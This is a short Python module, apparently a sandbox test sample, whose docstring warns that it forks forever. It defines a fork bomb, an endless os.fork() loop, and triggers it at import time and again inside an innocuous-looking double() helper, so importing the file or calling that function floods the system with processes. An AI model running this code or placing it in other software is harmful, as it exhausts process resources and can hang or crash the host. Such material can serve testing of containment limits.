"""Forks for ever, from a cell and from a call. NEVER run it without confinement."""

import os

forked = []


def bomb():
    while True:
        try:
            os.fork()
            forked.append(1)
        except OSError:
            return


bomb()


def double(x):
    bomb()
    return 2 * x if forked else None


def apply(step, numbers):
    return [step(n) for n in numbers]
